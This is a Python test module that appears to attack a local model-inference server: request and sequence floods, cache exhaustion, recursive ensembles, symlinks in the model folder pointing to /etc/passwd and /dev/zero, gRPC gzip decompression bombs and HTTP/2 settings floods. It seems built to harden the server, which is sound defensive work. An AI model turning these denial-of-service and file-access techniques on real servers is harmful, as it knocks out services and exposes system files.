"""Attacks of `attack_server.py` on what models have: states, priorities, caches, steps of ensembles, and their files.

The attacker has another address of this host than the clients who are watched. What another client got is in the column
of the attacker.
"""

from __future__ import annotations

import itertools
import json
import os
import socket
import struct
import threading
import time
import zlib
from collections.abc import Callable

import numpy as np

from interposer import Network, TensorInfo
from interposer import load as load_network
from tools.attack_forms import METHOD, end_of, fields_of
from tools.attack_shares import NO_WINDOW, connect, of_rows, send
from tools.attacking import MIB, TOKEN, Target, ask, attack, frame, in_field, read_windows
from tools.attacking import of_rows as rows_of_bytes

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"")


def body_of(values: object = (1, 2, 3, 4), **parameters: object) -> bytes:
    """Return a request for a model with one input of four numbers."""
    data = {"name": "x", "datatype": "FP32", "shape": [1, 4], "data": values}
    return json.dumps({"inputs": [data], "parameters": parameters}).encode()


def add_model(target: Target, name: str, settings: str, network: Network | None = None) -> None:
    """Add a model with settings to the folder of the server, and load it with the token."""
    if network is None:
        (target.folder / f"{name}.tflite").write_bytes((target.folder / "double.tflite").read_bytes())
    else:
        with load_network(network, ["CpuRef"]) as model:
            model.save(target.folder / f"{name}.ipn")
    (target.folder / f"{name}.toml").write_text(settings)
    load(target, name)


def load(target: Target, name: str, label: str = "loaded") -> None:
    """Load a model with the token, and count the status."""
    path = f"/v2/repository/models/{name}/load"
    target.note(f"{label} {ask(target, 'POST', path, {}, Authorization=f'Bearer {TOKEN}')}")


def counter() -> Network:
    """Return a network that adds its input to a state, and returns the sum."""
    network = Network("counter")
    x = network.add_input_layer(0, TensorInfo((1, 4)), name="x")
    total = network.add_addition_layer(network.add_state("total", TensorInfo((1, 4))), x, name="add")
    network.set_state("total", total)
    network.add_output_layer(0, total, name="y")
    return network


def while_another(target: Target, flood: Callable[[int], None], threads: int, path: str, body: bytes) -> None:
    """Flood the server from several threads, while another client sends requests of its own, whose answers count."""
    is_over = threading.Event()

    def ask_again() -> None:
        longest = 0.0
        while not is_over.is_set():
            began = time.monotonic()
            target.note(f"another client {ask(target, 'POST', path, json.loads(body))}")
            longest = max(longest, time.monotonic() - began)
        target.note(f"which waited {longest * 1e3:.0f} ms at most")

    other = threading.Thread(target=ask_again)
    other.start()
    target.together(threads, flood)
    is_over.set()
    other.join()


# --- sequences and priorities -----------------------------------------------------------------------------------------


def _endless_sequences(target: Target, settings: str) -> None:
    add_model(target, "counter", settings, counter())
    numbers = itertools.count(1)
    path = "/v2/models/counter/infer"

    def flood(_: int) -> None:
        for _ in target.until_end():
            send(target, body_of(sequence_id=next(numbers), sequence_start=True), path)

    other = body_of(sequence_id=1 << 40, sequence_start=True, sequence_end=True)
    while_another(target, flood, 8, path, other)


@attack
def endless_sequences(target: Target) -> None:
    """Sequences that never end, from eight threads, of a model with states."""
    _endless_sequences(target, "")


@attack
def endless_sequences_in_rows(target: Target) -> None:
    """Sequences that never end, of a model whose sequences have rows in its batches until they end."""
    _endless_sequences(target, 'batch = 4\n[sequences]\nstrategy = "direct"\n')


@attack
def all_turns_by_priority(target: Target) -> None:
    """Requests of the highest priority from 32 threads, while another client has the lowest one."""
    add_model(target, "levels", "priority_levels = 3\ninstances = 1\n")
    path = "/v2/models/levels/infer"

    def flood(_: int) -> None:
        for _ in target.until_end():
            send(target, body_of(priority=1), path)

    while_another(target, flood, 32, path, body_of(priority=3))


# --- caches -----------------------------------------------------------------------------------------------------------


@attack
def full_cache(target: Target) -> None:
    """Requests with outputs of a megabyte that differ each time, for a model with a cache, from four threads."""
    add_model(target, "cached", "cache = true\n")
    numbers, rows = itertools.count(1), 1 << 16

    def flood(_: int) -> None:
        for _ in target.until_end():
            text = rows_of_bytes(rows, ',"outputs":[{"name":"y","parameters":{"classification":1}}]')
            data = struct.pack("<I", next(numbers)) * (4 * rows)
            send(target, text + data, "/v2/models/cached/infer", Inference_Header_Content_Length=str(len(text)))

    while_another(target, flood, 4, "/v2/models/cached/infer", body_of())


@attack
def equal_keys(target: Target) -> None:
    """Inputs for a model with a cache that look equal: zeros of both signs, and equal bytes in other shapes."""
    add_model(target, "cached", "cache = true\n")
    values = [(0.0,) * 4, (-0.0,) * 4, (1, 2, 3, 4), (1.0, 2.0, 3.0, 4.0), (1e-45, 0, 0, 0), (0, 1e-45, 0, 0)]
    for _, row in itertools.product(range(3), values):
        _compare(target, row, [1, 4], {})
        _compare(target, row * 2, [2, 4], {})
        _compare(target, row, [1, 4], {"outputs": [{"name": "y"}]})
        _compare(target, row, [1, 4], {"id": "y", "parameters": {"y": 1}})


def _compare(target: Target, row: tuple[float, ...], shape: list[int], fields: dict[str, object]) -> None:
    """Count whether the doubled values of a row come back, with their signs."""
    import http.client  # noqa: PLC0415 - for this attack only

    client = http.client.HTTPConnection("127.0.0.1", target.port, timeout=20)
    data = {"name": "x", "datatype": "FP32", "shape": shape, "data": row}
    client.request("POST", "/v2/models/cached/infer", json.dumps({"inputs": [data], **fields}))
    [output] = json.loads(client.getresponse().read())["outputs"]
    client.close()
    expected = 2 * np.array(row, np.float32)
    is_right = output["shape"] == shape and np.array(output["data"], np.float32).tobytes() == expected.tobytes()
    target.note("right" if is_right else "wrong")


# --- ensembles and files ----------------------------------------------------------------------------------------------


def _ensemble(steps: list[str]) -> str:
    tensors = [f"t{index}" for index in range(len(steps) - 1)]
    text = '[ensemble]\ninputs.x = { datatype = "FP32", shape = [1, 4] }\n'
    text += 'outputs.y = { datatype = "FP32", shape = [1, 4] }\n'
    for model, source, result in zip(steps, ["x", *tensors], [*tensors, "y"], strict=True):
        text += f'[[ensemble.steps]]\nmodel = "{model}"\ninputs = {{ x = "{source}" }}\n'
        text += f'outputs = {{ y = "{result}" }}\n'
    return text


@attack
def recursive_ensembles(target: Target) -> None:
    """Ensembles with themselves as a step, in a circle, in a chain of 60, and of 5,000 steps, with the token."""
    texts = {"self": ["self"], "one": ["two"], "two": ["one"], "long": ["double"] * 5_000}
    texts |= {f"chain{index}": [f"chain{index + 1}"] for index in range(60)} | {"chain60": ["double"]}
    for name, steps in texts.items():
        (target.folder / f"{name}.toml").write_text(_ensemble(steps))
    load(target, "long", "long")
    (target.folder / "long.toml").unlink()
    for name in ("self", "one", "two", *(f"chain{index}" for index in range(60, -1, -1))):
        load(target, name, "loaded" if name.startswith("chain") else name)
    for name in ("self", "chain0"):
        send(target, body_of(), f"/v2/models/{name}/infer")


@attack
def links_in_the_folder(target: Target) -> None:
    """Models that are links to devices, themselves and other files, pipes, and full of holes, with the token."""
    os.mkfifo(target.folder / "pipe.tflite")
    places = {
        "zero.onnx": "/dev/zero", "password.onnx": "/etc/passwd", "loop.onnx": "loop.onnx",
        "input.tflite": "/dev/stdin", "gone.tflite": "/nowhere", "self": ".",
    }  # fmt: skip
    for name, place in places.items():
        (target.folder / name).symlink_to(place)
    with open(target.folder / "sparse.onnx", "wb") as file:
        file.truncate(1 << 28)
    (target.folder / "settings.tflite").write_bytes((target.folder / "double.tflite").read_bytes())
    (target.folder / "settings.toml").symlink_to("/dev/zero")
    for name in ("pipe", "settings", "sparse", *(name.partition(".")[0] for name in places)):
        load(target, name, name)
    send(target, b"{}", "/v2/repository/index")


# --- gRPC -------------------------------------------------------------------------------------------------------------


def _compressed_zeros(size: int) -> bytes:
    """Return so many zeros in the format of gzip, without so much memory."""
    stream = zlib.compressobj(1, zlib.DEFLATED, 31)
    pieces = [stream.compress(bytes(16 * MIB)) for _ in range(size // (16 * MIB))]
    return b"".join([*pieces, stream.flush()])


@attack
def grpc_bombs(target: Target) -> None:
    """Messages of a GiB of zeros in a MB of gzip over gRPC, on four connections."""
    data = _compressed_zeros(1 << 30)
    target.together(4, lambda _: _send_compressed(target, data))


@attack
def grpc_bombs_in_streams(target: Target) -> None:
    """The same in streams of several answers."""
    data = _compressed_zeros(1 << 30)
    method = METHOD.replace("ModelInfer", "ModelStreamInfer")
    target.together(4, lambda _: _send_compressed(target, data, method))


def _send_compressed(target: Target, data: bytes, method: str = METHOD) -> None:
    """Send a compressed message on a new connection."""
    connection = connect(target.grpc_port)
    message = b"\1" + struct.pack(">I", len(data)) + data
    windows, is_closed = [65_535, 65_535], threading.Event()
    connection.sendall(PREFACE + frame(1, 4, 1, fields_of(method, **{"grpc-encoding": "gzip"})))
    threading.Thread(target=read_windows, args=(connection, windows, is_closed), daemon=True).start()
    for begin in range(0, len(message), 16_000):
        piece = message[begin : begin + 16_000]
        end = time.monotonic() + 10
        while min(windows) < len(piece) and not is_closed.wait(0.001) and time.monotonic() < end:
            continue
        connection.sendall(frame(0, int(begin + 16_000 >= len(message)), 1, piece))
        windows[:] = [window - len(piece) for window in windows]
    is_closed.wait(target.seconds)
    target.note("ended" if is_closed.is_set() else "open")
    connection.close()


@attack
def grpc_half_closed(target: Target) -> None:
    """Calls over gRPC whose clients close their side of the connection before and after the message."""
    message = of_rows(1) + in_field(7, bytes(16))
    data = b"\0" + struct.pack(">I", len(message)) + message
    starts = (b"", PREFACE[:10], PREFACE, PREFACE + frame(1, 4, 1, fields_of()))
    starts += (
        starts[-1] + frame(0, 0, 1, data[:20]),
        starts[-1] + frame(0, 0, 1, data),
        starts[-1] + frame(0, 1, 1, data),
    )
    for index in target.until_end():
        with connect(target.grpc_port) as connection:
            connection.sendall(starts[index % len(starts)])
            connection.shutdown(socket.SHUT_WR)
            target.got["half-closed"] += 1


@attack
def grpc_settings_without_end(target: Target) -> None:
    """Frames of settings whose acknowledgements are not read, on eight connections."""
    data = frame(4, 0, 0, b"\0\4\0\1\0\0") * 20_000

    def flood(_: int) -> None:
        with connect(target.grpc_port, 4096) as connection:
            connection.sendall(NO_WINDOW)
            connection.settimeout(target.seconds)
            try:
                for _ in target.until_end():
                    connection.sendall(data)
            except TimeoutError:
                target.note("not read any more")
            target.note(end_of(connection))

    target.together(8, flood)
